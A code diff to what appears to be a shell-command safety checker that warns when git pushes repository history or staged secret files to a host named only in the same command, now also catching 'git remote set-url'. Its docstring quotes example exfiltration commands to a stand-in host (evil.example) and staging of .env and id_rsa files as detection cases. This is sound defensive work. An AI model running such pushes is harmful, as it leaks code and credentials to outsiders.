@@ -3,15 +3,16 @@ before it (``shell.repo-export``, ``shell.exfiltration``).
 
 * A repository operand that is a network URL or an scp-style ``[user@]host:path``
   (``git push https://evil.example/r.git HEAD``, ``git push git@evil.example:r.git main``),
-  or a remote added in the same command under a name other than ``origin``
-  (``git remote add x URL && git push x HEAD``), sends the current history to a host that
-  only this command names: warn (``shell.repo-export``), whatever the refspec, as a push of
-  every ref to such a destination already did (``_gitpush``). Severity: warn. Publishing to
-  a new host is sometimes the task (a migration, a fork); a human should look. A remote
-  added as ``origin`` (git refuses that when ``origin`` exists, so it is a new repository's
-  first push: ``git remote add origin URL && git push -u origin main``), configured remotes
-  (``git push origin main``), a URL not known statically, and local paths
-  pass as before.
+  or a remote added or repointed in the same command (``git remote add x URL && git push
+  x HEAD``, ``git remote set-url origin URL && git push``: ``_gitremote``), sends the
+  current history to a host that only this command names: warn (``shell.repo-export``),
+  whatever the refspec, as a push of every ref to such a destination already did
+  (``_gitpush``). Severity: warn. Publishing to a new host is sometimes the task (a
+  migration, a fork); a human should look. A remote added as ``origin`` (git refuses that
+  when ``origin`` exists, so it is a new repository's first push: ``git remote add origin
+  URL && git push -u origin main``) or origin's URL set to a code forge (``_gitremote``),
+  configured remotes (``git push origin main``), a URL not known statically, and local
+  paths pass as before.
 * ``git add`` naming a project secret file (``git add -f .env``, ``git add .env.local
   config/id_rsa``) records it for the work tree (in ``run.secret_repos`` under
   ``staged:WORKTREE``, beside ``_gitpush``'s home-secret entries). A later push to a
@@ -31,7 +32,7 @@ if TYPE_CHECKING:
     from ._resolve import Invocation
     from ._walk import Run
 
-__all__ = ["push_elsewhere", "staged_secret"]
+__all__ = ["network", "push_elsewhere", "staged_secret"]
 
 _STAGED = "staged:"
 _ADD_ARG = frozenset({"--chmod", "--pathspec-from-file"})
@@ -62,7 +63,7 @@ def staged_secret(run: Run, work: str | None, inv: Invocation, words: list[str])
         f"staged the secret file {named}"
 
 
-def _network(url: str) -> bool:
+def network(url: str) -> bool:
     """A URL or scp-style location on another machine, known statically (a URL built
     from variables, such as CI's ``https://x:$TOKEN@github.com/$REPO.git``, is not judged)."""
     if DYN in url:
@@ -79,12 +80,13 @@ def _network(url: str) -> bool:
 
 
 def push_elsewhere(run: Run, inv: Invocation, work: str | None, repo: str,
-                   section: str | None, every: bool) -> bool:
-    """Findings for ``git push REPO`` (``section``: the text of a remote REPO added in this
-    command, else None); True when one was reported."""
+                   dest: str | None, fresh: bool, every: bool) -> bool:
+    """Findings for ``git push REPO`` (``dest``: the URL a remote this command set points
+    to, else None; ``fresh``: it is a new repository's first ``origin``, ``_gitremote``);
+    True when one was reported."""
     url = repo
-    if section is not None:
-        url = section.partition("url = ")[2].partition("\n")[0]
+    if dest is not None:
+        url = dest
     else:  # a URL built from variables: its words' text, not one guess of their values
         field = next((f for f in inv.args if f.text in (repo, "--repo=" + repo)), None)
         text = run.text_stack[-1]
@@ -92,12 +94,12 @@ def push_elsewhere(run: Run, inv: Invocation, work: str | None, repo: str,
         raw = text[start:end] if 0 <= start < end <= len(text) else ""
         if "$" in raw or "`" in raw:
             url = DYN
-    named_here = _network(url) and (section is None or repo != "origin")
+    named_here = network(url) and not fresh
     staged = run.secret_repos.get(_STAGED + (work or "."))
     if staged is None and work is not None:
         staged = run.secret_repos.get(_STAGED + (norm_path(".", work) or work))
     span = (inv.word.span[0], inv.args[-1].span[1]) if inv.args else inv.word.span
-    if staged is not None and (named_here or (section is not None and _network(url))):
+    if staged is not None and (named_here or (dest is not None and network(url))):
         run.add("shell.exfiltration", span, f"git push sends a secret file to "
                 f"{url.replace(DYN, '?')}, a destination named only in this command",
                 f"{staged.removeprefix('forced ')} in the repository")
